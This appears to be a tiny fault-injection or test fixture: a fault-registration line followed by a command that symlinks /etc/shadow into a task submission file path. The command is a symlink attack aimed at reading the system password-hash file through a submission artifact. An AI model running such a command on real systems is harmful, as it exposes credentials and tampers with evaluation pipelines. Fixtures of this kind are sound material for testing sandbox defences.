/faults/register 2 3 4
ln -s /etc/shadow /l2r/submission/task_01/disp_0001_0001.npz
